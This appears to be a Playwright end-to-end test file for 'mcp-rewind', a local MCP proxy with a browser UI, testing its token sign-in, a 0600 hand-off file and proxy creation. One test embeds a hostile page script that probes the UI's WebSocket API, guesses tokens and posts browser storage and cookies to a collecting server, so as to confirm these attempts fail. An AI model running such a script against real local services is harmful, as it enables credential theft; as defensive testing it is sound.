import { existsSync, mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { connectClient, type ConnectedClient } from '../test/fixtures/client.js';
import { startSdkServer, type SdkServerHandle } from '../test/fixtures/sdk-server.js';
import { argvOf, fakeOpener, startUiProcess } from '../test/helpers/ui-process.js';
import { expect, ROOT, test } from './shell.js';

// The app as a user starts it (e2e/shell.ts: `mcp-rewind ui` in real Chromium, or the Electron app), driving the real
// engine and a real SDK upstream. No stubbed window APIs.

test.describe('the token gate', () => {
  test.skip(({ shell }) => shell !== 'browser', 'browser shell only: the token gate');

  test('mcp-rewind ui: the printed link signs a tab in once and leaves the address bar; without it the page says what to do; a restarted shell takes the tab back', async ({
    app,
  }) => {
    const { page, problems } = app;
    const origin = new URL(app.url).origin;
    // a tab with no token: the page loads (it holds no secret) and says in one line what to do, instead of spinning
    const stranger = await (await page.context().browser()!.newContext()).newPage();
    await stranger.goto(`${origin}/`);
    await expect(stranger.getByTestId('signin-notice')).toContainText('run mcp-rewind ui and open the link it prints');
    await expect(stranger.getByRole('status')).toHaveText('not signed in');

    await app.open();
    const nav = page.getByRole('navigation', { name: 'Views' });
    await expect(nav).toBeVisible();
    for (const name of ['Timeline', 'Rules', 'Cassettes', 'Export', 'Settings'])
      await expect(nav.getByRole('button', { name })).toBeVisible();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Timeline');
    await expect(page.getByText('Browser', { exact: true })).toBeVisible(); // no preload bridge: the WebSocket transport
    await expect(page.getByRole('status')).toHaveText('connected');
    // the code left the address bar (and so the history); the token it was traded for lives in this tab's sessionStorage
    const href = new URL(await page.evaluate(() => location.href));
    expect([href.origin, href.pathname, href.search]).toEqual([origin, '/', '']);
    expect(await page.evaluate(() => document.cookie)).toBe('');
    const token = readFileSync(join(app.dataDir, 'ui-token'), 'utf8').trim();
    expect(await page.evaluate(() => sessionStorage.getItem('mcp-rewind-token'))).toBe(token);
    // the link is spent: pasted again in another tab, it signs nobody in
    const late = await (await page.context().browser()!.newContext()).newPage();
    await late.goto(app.url);
    await expect(late.getByTestId('signin-notice')).toBeVisible();
    expect(late.url()).not.toContain('code=');
    await late.context().close();

    await nav.getByRole('button', { name: 'Cassettes' }).click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Cassettes');
    await expect(nav.getByRole('button', { name: 'Cassettes' })).toHaveAttribute('aria-current', 'page');
    await nav.getByRole('button', { name: 'Timeline' }).click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Timeline');

    // a reload keeps the tab signed in
    await page.reload();
    await expect(page.getByRole('status')).toHaveText('connected');

    // the shell restarts (same data folder, same port): the tab reconnects with its token, never "reconnecting…" forever
    await app.restart();
    await expect(page.getByRole('status')).toHaveText('connected', { timeout: 15_000 });
    await nav.getByRole('button', { name: 'Settings' }).click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Settings');
    expect(problems.filter((p) => !/WebSocket|ERR_CONNECTION_REFUSED|Failed to load resource/.test(p))).toEqual([]);
  });

  test("another local server's page, in the same browser, receives no credential of the UI and cannot drive its API", async ({
    app,
  }) => {
    await app.open();
    await expect(app.page.getByRole('status')).toHaveText('connected');
    const ui = new URL(app.url);
    const token = readFileSync(join(app.dataDir, 'ui-token'), 'utf8').trim();
    // a hostile page on another port of 127.0.0.1 (a dev server, an npm package's server): it logs every request it gets
    const seen: Array<{ url: string; headers: Record<string, string | string[] | undefined> }> = [];
    const reports: string[] = [];
    const evil = createServer((req, res) => {
      seen.push({ url: req.url ?? '', headers: req.headers });
      if (req.url === '/report' && req.method === 'POST') {
        let body = '';
        req.on('data', (c: Buffer) => (body += c.toString()));
        req.on('end', () => {
          reports.push(body);
          res.end();
        });
        return;
      }
      res.setHeader('content-type', 'text/html');
      res.end(`<!doctype html><title>evil</title><script>
        const target = ${JSON.stringify(`${ui.host}`)};
        const attempt = (label, protocols) => new Promise((done) => {
          let ws;
          try { ws = protocols ? new WebSocket('ws://' + target + '/api', protocols) : new WebSocket('ws://' + target + '/api'); } catch (e) { return done(label + ': threw'); }
          ws.onopen = () => { ws.send(JSON.stringify({ id: 1, command: 'proxies.list', input: {} })); };
          ws.onmessage = (m) => done(label + ': OPEN ' + m.data);
          ws.onerror = () => done(label + ': refused');
          setTimeout(() => done(label + ': timeout'), 4000);
        });
        (async () => {
          const results = [];
          results.push(await attempt('bare'));
          results.push(await attempt('guessed token', ['mcp-rewind.v1', 'mcp-rewind.token.guess']));
          try { const r = await fetch('http://' + target + '/api/auth', { credentials: 'include' }); results.push('auth: ' + r.status); } catch (e) { results.push('auth: blocked'); }
          try { results.push('storage: ' + JSON.stringify(sessionStorage) + JSON.stringify(localStorage) + document.cookie); } catch (e) { results.push('storage: none'); }
          await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
        })();
      </script>`);
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    try {
      const evilPage = await app.page.context().newPage(); // same browser, same profile as the UI's tab
      await evilPage.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`);
      await expect.poll(() => reports.length, { timeout: 15_000 }).toBe(1);
      const results = JSON.parse(reports[0]) as string[];
      expect(results.slice(0, 2)).toEqual(['bare: refused', 'guessed token: refused']);
      expect(results[2]).toMatch(/auth: (401|403|blocked)/);
      expect(results[3]).toBe('storage: {}{}');
      for (const request of seen) expect(JSON.stringify(request), request.url).not.toContain(token);
      expect(seen.every((r) => r.headers.cookie === undefined)).toBe(true);
      // and the UI is untouched
      await expect(app.page.getByRole('status')).toHaveText('connected');
    } finally {
      evil.closeAllConnections();
      await new Promise((resolve) => evil.close(resolve));
    }
  });
});

test.describe('the hand-off file', () => {
  test.skip(({ shell }) => shell !== 'browser', 'browser shell only: mcp-rewind ui opens the browser');

  test('mcp-rewind ui opens a 0600 file (not a URL with a secret); in Chromium it signs the tab in, and no URL the tab visited holds the token or a code', async ({
    shellBrowser,
  }) => {
    const dataDir = mkdtempSync(join(tmpdir(), 'rewind-e2e-data-'));
    const bin = mkdtempSync(join(tmpdir(), 'rewind-e2e-opener-'));
    const log = join(bin, 'opened.log');
    const ui = await startUiProcess(dataDir, { env: { PATH: `${fakeOpener(bin, log)}:${process.env.PATH}` } });
    const context = await shellBrowser!.newContext();
    const pids: number[] = [];
    try {
      const token = ui.token();
      await expect
        .poll(() => (existsSync(log) ? readFileSync(log, 'utf8') : ''), { timeout: 15_000 })
        .toMatch(/^opener \d+ file:\/\//);
      const opener = /^opener (\d+) (\S+)/.exec(readFileSync(log, 'utf8'))!;
      pids.push(Number(opener[1]));
      const fileUrl = opener[2];
      expect(argvOf(Number(opener[1]))).not.toContain(token);
      expect(statSync(fileURLToPath(fileUrl)).mode & 0o777).toBe(0o600);

      // what the browser does with it: the file posts its code, the answer keeps the token and replaces itself with /
      const page = await context.newPage();
      const visited: string[] = [];
      page.on('framenavigated', (frame) => frame === page.mainFrame() && visited.push(frame.url()));
      await page.goto(fileUrl);
      await expect(page.getByRole('status')).toHaveText('connected', { timeout: 15_000 });
      const href = new URL(await page.evaluate(() => location.href)); // the app adds its view: /#/timeline
      expect([href.origin, href.pathname, href.search]).toEqual([ui.origin, '/', '']);
      const code = /name="code" value="([\w-]+)"/.exec(readFileSync(fileURLToPath(fileUrl), 'utf8'))![1];
      for (const url of visited) {
        expect(url).not.toContain(token);
        expect(url).not.toContain(code);
      }
      expect(visited[0]).toBe(fileUrl);
      expect(visited.at(-1)).toMatch(new RegExp(`^${ui.origin}/(#/timeline)?$`));
      // the history: the file and the app, nothing between (the hand-off answer was replaced)
      expect(await page.evaluate(() => history.length)).toBe(2);
      // the UI works
      await page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name: 'Settings' }).click();
      await expect(page.getByRole('heading', { level: 1 })).toHaveText('Settings');
      // the file again (from the history, in another tab): its code is spent
      const again = await (await shellBrowser!.newContext()).newPage();
      await again.goto(fileUrl);
      await expect(again.getByText('was used already or has expired')).toBeVisible();
      await again.goto(`${ui.origin}/`);
      await expect(again.getByTestId('signin-notice')).toBeVisible();
      await again.context().close();
    } finally {
      for (const line of existsSync(log) ? readFileSync(log, 'utf8').trim().split('\n') : [])
        pids.push(Number(line.split(' ')[1]));
      for (const pid of new Set(pids)) {
        try {
          process.kill(pid, 'SIGKILL'); // the stand-in opener and browser
        } catch {
          // gone
        }
      }
      await context.close();
      await ui.stop();
      rmSync(dataDir, { recursive: true, force: true });
      rmSync(bin, { recursive: true, force: true });
    }
  });
});

test('a proxy created from the UI in front of a real SDK server counts the traffic of a real SDK client', async ({
  app,
}) => {
  const { page, problems } = app;
  const upstream: SdkServerHandle = await startSdkServer();
  const cassette = mkdtempSync(join(tmpdir(), 'rewind-e2e-cassette-'));
  let mcp: ConnectedClient | undefined;
  try {
    await app.open();
    await page.getByRole('button', { name: 'New proxy', exact: true }).click(); // the New proxy dialog
    const form = page.getByRole('form', { name: 'New proxy' });
    await form.getByLabel('Mode').selectOption('record');
    await form.getByLabel('Upstream URL').fill(upstream.url);
    await form.getByLabel('Cassette folder').fill(cassette);
    await form.getByLabel('Name').fill('fixture');
    await form.getByRole('button', { name: 'Create proxy' }).click();

    const row = page.getByRole('list', { name: 'Proxy list' }).getByRole('listitem').filter({ hasText: 'fixture' });
    await expect(row.getByText('running')).toBeVisible();
    await expect(row.getByTestId('exchanges')).toHaveText('0');
    const endpoint = (await row.locator('code').textContent()) ?? '';
    expect(endpoint).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/mcp$/);

    // a bad input is said beside its field, before anything is sent; the engine's refusal lands beside the field it names
    await page.getByRole('button', { name: 'New proxy', exact: true }).click();
    await form.getByLabel('Mode').selectOption('record');
    await form.getByLabel('Upstream URL').fill('localhost:3000');
    await form.getByRole('button', { name: 'Create proxy' }).click();
    await expect(form.getByLabel('Upstream URL')).toHaveAttribute('aria-invalid', 'true');
    await expect(form.getByRole('alert')).toHaveText(/^must start with http:\/\/ or https:\/\//);
    await form.getByLabel('Upstream URL').fill(upstream.url);
    await form.getByLabel('Name').fill('fixture');
    await form.getByRole('button', { name: 'Create proxy' }).click();
    await expect(form.getByLabel('Name')).toHaveAttribute('aria-invalid', 'true');
    await expect(form.getByRole('alert')).toHaveText('a proxy named "fixture" exists already; choose another name');
    await form.getByRole('button', { name: 'Cancel' }).click();
    await expect(form).toBeHidden();

    mcp = await connectClient(endpoint);
    await mcp.client.callTool({ name: 'echo', arguments: { text: 'from the e2e' } });
    await mcp.client.callTool({ name: 'add', arguments: { a: 2, b: 3 } });
    // initialize, notifications/initialized?, tools/call ×2 (the engine decides what an exchange is): at least 3
    await expect
      .poll(async () => Number(await row.getByTestId('exchanges').textContent()), { timeout: 10_000 })
      .toBeGreaterThanOrEqual(3);
    const recent = page.getByRole('table', { name: 'Recent exchanges' });
    await expect(recent.getByRole('row').filter({ hasText: 'echo' })).toHaveCount(1);
    await expect(recent.getByRole('row').filter({ hasText: 'add' }).first()).toContainText('tools/call');
    expect(upstream.calls.map((c) => c.tool)).toEqual(['echo', 'add']);

    await page.setViewportSize({ width: 1280, height: 720 });
    await app.screenshot(join(ROOT, 'docs/screenshots/web-shell-1280.png'));

    // pause holds new exchanges back; clear empties the engine's buffer and the view
    await page.getByRole('button', { name: 'Pause' }).click();
    await mcp.client.callTool({ name: 'echo', arguments: { text: 'while paused' } });
    await expect(page.getByTestId('traffic-count')).toContainText('held while paused');
    await page.getByRole('button', { name: 'Resume' }).click();
    await expect(recent.getByRole('row').filter({ hasText: 'echo' })).toHaveCount(2);
    await page.getByRole('button', { name: 'Clear all' }).click();
    await expect(page.getByTestId('traffic-count')).toHaveText('0 exchanges');
    await page.reload();
    await expect(page.getByTestId('traffic-count')).toHaveText('0 exchanges'); // cleared in the engine, not only the view

    await row.getByRole('button', { name: 'Stop' }).click();
    await expect(row.getByText('stopped')).toBeVisible();
    await row.getByRole('button', { name: 'Remove fixture…' }).click();
    await row.getByRole('button', { name: 'Remove fixture', exact: true }).click(); // asks first
    await expect(page.getByText('No proxy yet')).toBeVisible();
    expect(problems).toEqual([]);
  } finally {
    await mcp?.close();
    await upstream.close();
    rmSync(cassette, { recursive: true, force: true });
  }
});
